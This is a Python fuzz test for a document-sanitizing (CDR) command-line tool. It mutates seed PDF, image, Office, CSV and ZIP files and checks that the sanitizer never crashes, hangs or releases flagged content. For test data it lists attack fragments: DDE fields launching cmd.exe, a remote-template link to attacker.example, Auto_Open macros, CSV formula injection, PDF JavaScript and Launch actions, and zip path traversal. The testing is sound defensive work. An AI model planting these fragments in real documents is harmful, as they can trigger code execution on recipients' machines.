"""Mutation fuzzing of the whole pipeline through the CLI, with hypothesis.

Seed files of every supported family are mutated (bit flips, truncation, chunk splicing,
attack tokens, well-formed attack fragments after '<<' or '>', Office attacks spelled by a
small grammar and planted where the part still parses (tests/attacks/grammar.py), mutation
inside an Office package's members, nesting into a ZIP);
each hypothesis example is one batch of mutants, dealt to two `cdr sanitize` subprocesses running
side by side (one per core). For every
batch: no traceback, exit 0 or 1, a result line per file, no file over its time limit, and
nothing released that the tests' own inspector flags.

`make test` runs a bounded pass (CDR_FUZZ_EXAMPLES mutants per format, 120 by default);
`make fuzz` runs long (CDR_FUZZ_EXAMPLES=2000). Failing mutants are kept under
CDR_FUZZ_KEEP (default: the pytest temp folder) so they can become catalogue entries.
"""

from __future__ import annotations

import io
import math
import os
import random
import tempfile
import zipfile
import zlib
from collections import Counter
from dataclasses import dataclass
from pathlib import Path

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from tests.attacks import grammar, inspector, runner
from tests.attacks.builders import archive, images, ooxml_excel, ooxml_powerpoint, ooxml_word, pdf, text

EXAMPLES = int(os.environ.get("CDR_FUZZ_EXAMPLES", "120"))
BATCH = min(EXAMPLES, 120)  # one hypothesis example: two CLI runs of up to 60 mutants, side by side
ROUNDS = math.ceil(EXAMPLES / BATCH)
WALL_TIME_MS = 120_000  # the default policy's limits.wall_time
SUSPECT_REASONS = {"timeout", "cpu-limit"}  # a mutated small seed that runs out of time is a hang


@dataclass(frozen=True)
class Seed:
    suffix: str
    data: bytes
    tokens: tuple[bytes, ...]  # attack fragments worth splicing in (what a format's attacker writes)
    anchor: bytes = b""  # where a fragment still parses: after "<<" in a PDF, after ">" in package XML


OFFICE_FRAGMENTS = (
    b'<w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;">'
    b"<w:r><w:t>x</w:t></w:r></w:fldSimple>",
    b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE cmd /c calc</w:instrText></w:r>'
    b'<w:r><w:fldChar w:fldCharType="end"/></w:r>',
    b'<w:attachedTemplate r:id="rIdZ"/>',
    b"<c r=\"Z99\"><f>cmd|' /C calc'!A0</f></c>",
    b'<definedName name="Auto_Open">EXEC("calc")</definedName>',
    b'<a:hlinkClick r:id="" action="ppaction://program"/>',
    b'<Relationship Id="rIdZ" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/>',
    b'<Relationship Id="rIdY" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
    b'Target="file:///C:/Windows/System32/calc.exe" TargetMode="External"/>',
    b'<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
    b"&#124;",
)
PDF_FRAGMENTS = (
    b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
    b"/AA << /O << /S /Launch /F (cmd.exe) >> >>",
    b"/A << /S /URI /URI (javascript:app.alert(1)) >>",
    b"/O#70enAction << /S /J#61vaScript /JS (x) >>",
    b"/Names << /EmbeddedFiles << /Names [(a) << /EF << /F 4 0 R >> >>] >> >>",
    b"/AcroForm << /XFA 4 0 R >>",
)
IMAGE_TOKENS = (b"<script>alert(1)</script>", b"PK\x03\x04", b"\xff\xfe<?php", b"tEXtComment\x00")


def _seeds() -> dict[str, Seed]:
    work = Path(tempfile.gettempdir())  # none of these builders runs a tool that needs scratch space
    csv_tokens = (
        b"=cmd|' /C calc'!A0",
        b"\t=1+1",
        "＝1+1".encode(),
        b",@SUM(1)",
        b"\r\n-2+3+cmd|'/c calc'!A0,",
    )
    return {
        "pdf": Seed(".pdf", pdf._raw_pdf(pdf._page_objects(b"/PageMode /UseNone")), PDF_FRAGMENTS, b"<<"),
        "png": Seed(".png", images._png(), IMAGE_TOKENS),
        "jpeg": Seed(".jpg", images._jpeg(), IMAGE_TOKENS),
        "gif": Seed(".gif", images._gif(), IMAGE_TOKENS),
        "docx": Seed(".docx", ooxml_word.docx_harmless_fields(work), OFFICE_FRAGMENTS, b">"),
        "xlsx": Seed(".xlsx", ooxml_excel.xlsx_benign(work), OFFICE_FRAGMENTS, b">"),
        "pptx": Seed(".pptx", ooxml_powerpoint.pptx_benign(work), OFFICE_FRAGMENTS, b">"),
        "csv": Seed(".csv", text.csv_benign(work), csv_tokens, b","),
        "zip": Seed(".zip", archive.zip_benign(work), IMAGE_TOKENS + (b"../../evil.txt",)),
    }


SEEDS = _seeds()


# Each mutant is driven by one integer drawn by hypothesis (printed in a failing example, so a
# mutant can be rebuilt with mutate(random.Random(n), seed)) and a uniform random.Random:
# hypothesis' own randoms lean towards 0, which truncates nearly every mutant to nothing.
def _position(rng: random.Random, data: bytes) -> int:
    return rng.randrange(max(len(data), 1))


def _flip(rng: random.Random, data: bytes, seed: Seed) -> bytes:
    mutable = bytearray(data)
    for _ in range(rng.randint(1, 16)):
        if mutable:
            mutable[_position(rng, data)] ^= 1 << rng.randrange(8)
    return bytes(mutable)


def _truncate(rng: random.Random, data: bytes, seed: Seed) -> bytes:
    return data[: _position(rng, data)]


def _splice(rng: random.Random, data: bytes, seed: Seed) -> bytes:
    start = _position(rng, data)
    chunk = data[start : start + rng.randint(1, 512)]
    at = _position(rng, data)
    return data[:at] + chunk + data[at + rng.choice([0, len(chunk)]) :]


def _token(rng: random.Random, data: bytes, seed: Seed) -> bytes:
    at = _position(rng, data)
    return data[:at] + rng.choice(seed.tokens) + data[at:]


def _fragment(rng: random.Random, data: bytes, seed: Seed) -> bytes:
    """Structure-aware: put an attack fragment where the format still parses (after '<<' or '>')."""
    if not seed.anchor or seed.anchor not in data:
        return _token(rng, data, seed)
    at, found = 0, []
    while (at := data.find(seed.anchor, at)) >= 0 and len(found) < 5000:
        found.append(at + len(seed.anchor))
        at += 1
    place = rng.choice(found)
    return data[:place] + rng.choice(seed.tokens) + data[place:]


BYTE_MUTATIONS = (_flip, _truncate, _splice, _token, _fragment, _fragment)


def _in_member(rng: random.Random, data: bytes, seed: Seed) -> bytes:
    """Mutate one member of a package and write a valid ZIP again: the parser gets past the CRC."""
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as package:
            members = {info.filename: package.read(info) for info in package.infolist()}
    except (zipfile.BadZipFile, ValueError, OSError, EOFError, NotImplementedError, RuntimeError, zlib.error):
        return _flip(rng, data, seed)
    if not members:
        return data
    name = rng.choice(sorted(members))
    members[name] = rng.choice(BYTE_MUTATIONS)(rng, members[name], seed)
    return archive.zip_of(members)


def _planted(rng: random.Random, data: bytes, seed: Seed) -> bytes:
    try:
        return grammar.plant(rng, data)
    except (zipfile.BadZipFile, ValueError, OSError, EOFError, NotImplementedError, RuntimeError, zlib.error):
        return _flip(rng, data, seed)  # an earlier mutation broke the package: mutate the bytes instead


def _png_with_valid_crcs(data: bytes) -> bytes:
    """Recompute every chunk's CRC, so the mutant gets past the first check into the decoder."""
    out = bytearray(data[:8])
    at = 8
    while at + 12 <= len(data):
        length = int.from_bytes(data[at : at + 4], "big")
        body = data[at + 4 : at + 8 + length]
        if at + 12 + length > len(data):
            break
        out += data[at : at + 4] + body + zlib.crc32(body).to_bytes(4, "big")
        at += 12 + length
    return bytes(out + data[at:])


def mutate(rng: random.Random, seed: Seed) -> tuple[str, bytes]:
    data = seed.data
    container = seed.suffix in (".docx", ".xlsx", ".pptx", ".zip")
    choices = BYTE_MUTATIONS + ((_in_member, _in_member) if container else ())
    if seed.suffix in (".docx", ".xlsx", ".pptx"):
        choices += (_planted,) * 4  # half the Office mutants carry a well-formed attack to the rebuild
    for _ in range(rng.randint(1, 3)):
        data = rng.choice(choices)(rng, data, seed)
    if seed.suffix == ".png" and rng.randrange(2):
        data = _png_with_valid_crcs(data)
    if rng.randrange(10) == 0:  # one in ten goes into a ZIP, as mail gateways see them
        return ".zip", archive.zip_of({"nested" + seed.suffix: data})
    return seed.suffix, data


def _judge(batch: runner.Batch, names: list[str]) -> list[str]:
    problems = []
    if "Traceback" in batch.stderr:
        problems.append("traceback on stderr: " + batch.stderr[-1500:])
    if batch.returncode not in (0, 1):
        problems.append(f"exit {batch.returncode}: {batch.stderr[-800:]}")
    for name in names:
        result = batch.results.get(name)
        if result is None:
            problems.append(f"{name}: no result line")
            continue
        if result.get("reason") in SUSPECT_REASONS or int(result.get("duration_ms") or 0) > WALL_TIME_MS:
            problems.append(
                f"{name}: over its time limit ({result.get('reason')}, {result.get('duration_ms')} ms)"
            )
        output = batch.output(name)
        if output is not None:
            problems += [f"{name}: released with {finding}" for finding in inspector.inspect(output)[:5]]
    return problems


@pytest.mark.parametrize("family", sorted(SEEDS))
def test_mutants_never_crash_or_leak(family: str, tmp_path_factory: pytest.TempPathFactory) -> None:
    seed = SEEDS[family]
    keep = Path(os.environ.get("CDR_FUZZ_KEEP") or tmp_path_factory.mktemp(f"fuzz-{family}-findings"))
    keep.mkdir(parents=True, exist_ok=True)
    tally: Counter[str] = Counter()

    @settings(
        max_examples=ROUNDS,
        deadline=None,
        database=None,
        phases=[Phase.generate],
        suppress_health_check=list(HealthCheck),
    )
    @given(st.lists(st.integers(0, 2**63), min_size=BATCH, max_size=BATCH, unique=True))
    def one_batch(numbers: list[int]) -> None:
        folder = tmp_path_factory.mktemp(f"fuzz-{family}")
        names = []
        for number, mutant_seed in enumerate(numbers):
            suffix, data = mutate(random.Random(mutant_seed), seed)
            names.append(f"m{number:04}{suffix}")
            (folder / names[-1]).write_bytes(data)
        batch = runner.sanitize_side_by_side(folder, names)
        tally.update(str(r.get("reason") or r.get("verdict")) for r in batch.results.values())
        problems = _judge(batch, names)
        if problems:
            for name in names:
                (keep / f"{family}-{name}").write_bytes((folder / name).read_bytes())
        assert not problems, f"kept in {keep}:\n" + "\n".join(problems[:30])

    one_batch()
    print(f"fuzz {family}: {sum(tally.values())} executions, {dict(tally)}")
    assert sum(tally.values()) >= EXAMPLES


def test_seeds_are_released_unmutated(tmp_path: Path) -> None:
    """The seeds themselves are benign: a fuzz run starts from files that do go through."""
    names = []
    for family, seed in SEEDS.items():
        names.append(family + seed.suffix)
        (tmp_path / names[-1]).write_bytes(seed.data)
    batch = runner.sanitize(tmp_path, names)
    assert not _judge(batch, names)
    assert {r["verdict"] for r in batch.results.values()} == {"released"}, {
        n: r.get("reason") for n, r in batch.results.items() if r["verdict"] != "released"
    }
